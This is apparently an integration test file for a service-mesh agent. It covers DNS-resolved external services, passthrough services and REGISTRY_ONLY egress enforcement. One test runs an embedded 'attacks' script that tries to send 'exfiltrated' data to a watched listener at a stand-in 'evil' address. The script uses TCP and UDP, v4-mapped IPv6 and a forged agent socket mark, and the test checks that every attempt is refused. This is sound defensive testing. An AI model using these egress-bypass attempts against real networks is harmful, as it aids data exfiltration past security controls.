"""External services and egress: `resolution: DNS` ServiceEntries whose backends the
agent resolves through the node's resolver (dnsmasq in the test's namespace) and
re-resolves as TTLs run out; `resolution: NONE` passthrough; and the mesh's
outboundTrafficPolicy REGISTRY_ONLY enforced at connect()/sendmsg(), tried the way a
workload exfiltrating data would (curl, raw sockets over IPv4, v4-mapped IPv6 and UDP, a
forged agent mark) against a listener the test watches."""
import json
import os
import signal
import socket
import subprocess
import time

from test_dns import UPSTREAM, run_dnsmasq, with_resolv
from test_monitor import Monitor

ONE, TWO = "10.1.54.11", "10.1.54.12"   # backends an external name can point at
OUTSIDE = "10.1.54.13"                 # somewhere no config names
PASSTHROUGH = "10.1.54.14"             # a resolution NONE service's address
WILD = "10.1.54.15"                    # what a name under a NONE service's wildcard host is

EXTERNAL = """apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: ext, namespace: prod}
spec:
  hosts: [ext.example.test]
  ports: [{number: 80, name: http, protocol: TCP, targetPort: 8080}]
  resolution: DNS
  location: MESH_EXTERNAL
"""

PARTNER = """apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: partner, namespace: prod}
spec:
  hosts: [partner.example.test]
  addresses: [%s]
  ports: [{number: 8080, name: http, protocol: TCP}]
  resolution: NONE
  location: MESH_EXTERNAL
""" % PASSTHROUGH

WILDCARD = """apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: partners, namespace: prod}
spec:
  hosts: ["*.partners.example.test"]
  ports: [{number: 8080, name: http, protocol: TCP}]
  resolution: NONE
  location: MESH_EXTERNAL
"""

REGISTRY_ONLY = """apiVersion: weft.io/v1alpha1
kind: MeshConfig
metadata: {name: mesh, namespace: weft-system}
spec:
  outboundTrafficPolicy: {mode: REGISTRY_ONLY}
"""


def resolver(sandbox, hosts):
    """dnsmasq as the node's resolver, answering from a hosts file (TTL 2 s) that it
    reads again on SIGHUP (as root: the test's directory is not readable by the user it
    would switch to); returns (process, hosts file, resolv.conf)."""
    sandbox.add_address(UPSTREAM)
    path = os.path.join(sandbox.tmp, "ext.hosts")
    with open(path, "w") as f:
        f.write(hosts)
    p, _ = run_dnsmasq(sandbox, "--user=root", "--addn-hosts=" + path, "--local-ttl=2", "--local=/example.test/")
    resolv = os.path.join(sandbox.tmp, "resolv.conf")
    with open(resolv, "w") as f:
        f.write("nameserver %s\noptions timeout:2 attempts:1\n" % UPSTREAM)
    return p, path, resolv


def fetch(sandbox, resolv, url):
    """curl by name from the client workload, through glibc and the node's resolv.conf:
    the backend's name, or None with curl's exit code and message."""
    r = sandbox.run(with_resolv(resolv, ["curl", "-s", "-m", "5", url]))
    if r.returncode != 0:
        return None, r.returncode, r.stderr
    return json.loads(r.stdout)["name"], 0, ""


def connect(sandbox, host, port):
    """A TCP connect from the client workload: "ok" or the error's text."""
    r = sandbox.run(["python3", "-c", "import socket, sys\ntry:\n    socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); print('ok')\n"
                     "except OSError as e:\n    print(e.strerror)", host, str(port)], check=True)
    return r.stdout.strip()


def wait_for(pred, timeout, what):
    deadline = time.time() + timeout
    while not pred():
        assert time.time() < deadline, what
        time.sleep(0.2)


def test_dns_service_follows_its_name_and_keeps_it_while_the_resolver_is_away(sandbox):
    """A ServiceEntry with `resolution: DNS` and no addresses: clients resolve its host to
    the VIP the agent allocated, and the kernel sends their connections to what the
    node's resolver says the name is. When the record changes, the backends follow once
    its TTL (2 s; weft asks again after at least 5 s) runs out; when the resolver goes
    away, the last answer stays in force."""
    dns, hosts, resolv = resolver(sandbox, "%s ext.example.test\n" % ONE)
    sandbox.http_backend("one", ONE)
    sandbox.http_backend("two", TWO)
    sandbox.write("ext.yaml", EXTERNAL)
    sandbox.start_agent("--resolv-conf", resolv)
    sandbox.wait_log(r"DNS service name ext\.example\.test resolved to %s" % ONE.replace(".", r"\."))
    name, rc, err = fetch(sandbox, resolv, "http://ext.example.test/")
    assert name == "one", (rc, err)
    # The name is answered with the VIP the agent allocated; the kernel holds the
    # resolved address as its backend.
    vip = sandbox.run(["dig", "+short", "+time=5", "@" + UPSTREAM, "ext.example.test"]).stdout.strip()
    assert vip.startswith("240.240."), vip
    listing = [s for s in sandbox.services() if s["frontend"] == vip + ":80/tcp"]
    assert [b["address"] for b in listing[0]["backends"]] == [ONE + ":8080"], listing

    mark = len(sandbox.log())
    with open(hosts, "w") as f:
        f.write("%s ext.example.test\n" % TWO)
    dns.send_signal(signal.SIGHUP)
    sandbox.wait_log(r"DNS service name ext\.example\.test resolved to %s" % TWO.replace(".", r"\."), timeout=20, after=mark)
    wait_for(lambda: fetch(sandbox, resolv, "http://ext.example.test/")[0] == "two", 10, "connections did not follow the new address")
    # The old address is no backend any more: every connection goes to the new one.
    assert {fetch(sandbox, resolv, "http://ext.example.test/")[0] for _ in range(5)} == {"two"}

    # The resolver goes away: the agent keeps the answer it has (and says so).
    mark = len(sandbox.log())
    dns.terminate()
    dns.wait(timeout=10)
    sandbox.wait_log(r"DNS service name ext\.example\.test: no resolver answered; keeping %s" % TWO.replace(".", r"\."),
                     timeout=30, after=mark)
    r = sandbox.run(["curl", "-s", "-m", "5", "http://%s/" % vip])
    assert r.returncode == 0 and json.loads(r.stdout)["name"] == "two", r.stderr


def test_registry_only_refuses_what_the_registry_does_not_know(sandbox):
    """The mesh's MeshConfig says REGISTRY_ONLY: a workload reaches its services, their
    backends, resolution NONE services' addresses, its resolver and loopback — and
    nothing else, however it tries. Each refusal happens at connect()/sendmsg() (EPERM,
    no packet leaves), is counted and shown by `weft monitor`; the listener outside never
    sees a connection or datagram. A NONE service's wildcard host opens what the names under
it resolve to, once a workload asks the agent for one. Back to ALLOW_ANY, the same
connections go through."""
    _, _, resolv = resolver(sandbox, "%s ext.example.test\n%s api.partners.example.test\n%s evil.example.test\n" % (ONE, WILD, OUTSIDE))
    sandbox.http_backend("one", ONE)
    sandbox.http_backend("outside", OUTSIDE)
    sandbox.http_backend("partner", PASSTHROUGH)
    sandbox.http_backend("wild", WILD)
    udp_log = os.path.join(sandbox.tmp, "outside-udp.log")
    sandbox.procs.append(subprocess.Popen(sandbox.in_ns(["python3", "-c", """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 9999))
out = open(sys.argv[2], "a", buffering=1)
while True:
    data, peer = s.recvfrom(2048)
    out.write(data.decode(errors="replace") + "\\n")
""", OUTSIDE, udp_log])))
    sandbox.write("ext.yaml", EXTERNAL + "---\n" + PARTNER + "---\n" + WILDCARD)
    sandbox.start_agent("--resolv-conf", resolv)
    sandbox.wait_log(r"DNS service name ext\.example\.test resolved to")

    attacks = """
import socket, sys, json
out, host = {}, sys.argv[1]
def attempt(name, family, addr, kind=socket.SOCK_STREAM, mark=None):
    s = socket.socket(family, kind)
    s.settimeout(3)
    if mark:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, mark)
    try:
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"exfiltrated " + name.encode(), addr)
        else:
            s.connect(addr)
        out[name] = "ok"
    except OSError as e:
        out[name] = e.strerror
    s.close()
attempt("tcp4", socket.AF_INET, (host, 8080))
attempt("tcp6-mapped", socket.AF_INET6, ("::ffff:" + host, 8080))
attempt("udp4", socket.AF_INET, (host, 9999), socket.SOCK_DGRAM)
attempt("udp6-mapped", socket.AF_INET6, ("::ffff:" + host, 9999), socket.SOCK_DGRAM)
attempt("agent-mark", socket.AF_INET, (host, 8080), mark=0x77650000)
attempt("registered-host-other-port", socket.AF_INET, (sys.argv[2], 8081))
print(json.dumps(out))
"""

    def attack():
        r = sandbox.run(["python3", "-c", attacks, OUTSIDE, ONE], check=True)
        return json.loads(r.stdout)

    # ALLOW_ANY (no MeshConfig): everything goes — the listeners below do see traffic, so
    # their silence later means something.
    got = attack()
    assert got.pop("registered-host-other-port") == "Connection refused" and set(got.values()) == {"ok"}, got
    wait_for(lambda: os.path.exists(udp_log) and open(udp_log).read().count("exfiltrated") == 2, 5, "the UDP listener saw nothing")
    assert len(sandbox.requests_seen("outside")) == 0  # connects only, no request yet
    assert fetch(sandbox, resolv, "http://%s:8080/" % OUTSIDE)[0] == "outside"

    mark = len(sandbox.log())
    sandbox.write("mesh.yaml", REGISTRY_ONLY)
    sandbox.wait_log(r"config revision \d+ applied", after=mark)
    before = sandbox.counters().get("egress_refused", 0)
    udp_before = open(udp_log).read()
    seen_before = len(sandbox.requests_seen("outside"))
    mon = Monitor(sandbox, "--verdict", "refused")
    try:
        got = attack()
        # Refused at the socket — including a registered host on a port no service names.
        assert got == {k: "Operation not permitted" for k in ("tcp4", "tcp6-mapped", "udp4", "udp6-mapped", "agent-mark",
                                                               "registered-host-other-port")}, got
        name, rc, err = fetch(sandbox, resolv, "http://%s:8080/" % OUTSIDE)
        assert name is None and rc == 7, (name, rc, err)
        flows = mon.wait_for(lambda f: f.get("verdict") == "refused" and OUTSIDE in json.dumps(f))
        assert "egress" in json.dumps(flows[0]), flows[0]
    finally:
        mon.stop()
    time.sleep(0.5)
    assert open(udp_log).read() == udp_before and len(sandbox.requests_seen("outside")) == seen_before
    assert sandbox.counters()["egress_refused"] >= before + 7

    # What the registry knows still works: the DNS service by name (its resolved
    # backend), the passthrough address, DNS itself, loopback.
    assert fetch(sandbox, resolv, "http://ext.example.test/")[0] == "one"
    assert fetch(sandbox, resolv, "http://%s:8080/" % PASSTHROUGH)[0] == "partner"
    assert fetch(sandbox, resolv, "http://%s:8080/" % ONE)[0] == "one"   # a backend, directly
    r = sandbox.run(["python3", "-c", "import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); "
                     "c = socket.create_connection(s.getsockname(), timeout=3); print('ok')"])
    assert r.stdout.strip() == "ok", r.stderr
    kernel = json.loads(sandbox.weft("map", "dump", "weft_egress_mode_v1", "-j", "--bpffs", sandbox.bpffs).stdout)
    assert kernel == [{"key": "mode", "value": "REGISTRY_ONLY"}], kernel

    # A NONE service's wildcard host: nothing under it is open until a workload looks a
    # name up through the agent; then what the answer says is open on the service's port
    # (for every workload of the node), not on others. A name no service has stays shut.
    assert connect(sandbox, WILD, 8080) == "Operation not permitted"
    assert fetch(sandbox, resolv, "http://api.partners.example.test:8080/")[0] == "wild"
    assert connect(sandbox, WILD, 8080) == "ok" and connect(sandbox, WILD, 8081) == "Operation not permitted"
    assert fetch(sandbox, resolv, "http://evil.example.test:8080/")[1] == 7
    rows = json.loads(sandbox.weft("map", "dump", "weft_egress_v1", "-j", "--bpffs", sandbox.bpffs).stdout)
    assert any(r["key"] == WILD + ":8080" and r["value"].startswith("learned from a DNS answer, until ") for r in rows), rows
    # A new agent (an upgrade) keeps what answers opened: its reconciler does not take
    # it away, past a resync.
    old = sandbox.agent
    sandbox.start_agent("--resolv-conf", resolv)
    assert old.wait(timeout=40) == 0
    sandbox.wait_log(r"REGISTRY_ONLY: \d+ destination\(s\) DNS answers opened before are kept")
    time.sleep(6)
    assert connect(sandbox, WILD, 8080) == "ok"

    # Back to ALLOW_ANY: the same destination is reachable again, and the registry's
    # entries are gone from the kernel.
    mark = len(sandbox.log())
    os.unlink(os.path.join(sandbox.config, "mesh.yaml"))
    sandbox.wait_log(r"config revision \d+ applied", after=mark)
    assert fetch(sandbox, resolv, "http://%s:8080/" % OUTSIDE)[0] == "outside"
    assert json.loads(sandbox.weft("map", "dump", "weft_egress_v1", "-j", "--bpffs", sandbox.bpffs).stdout) == []
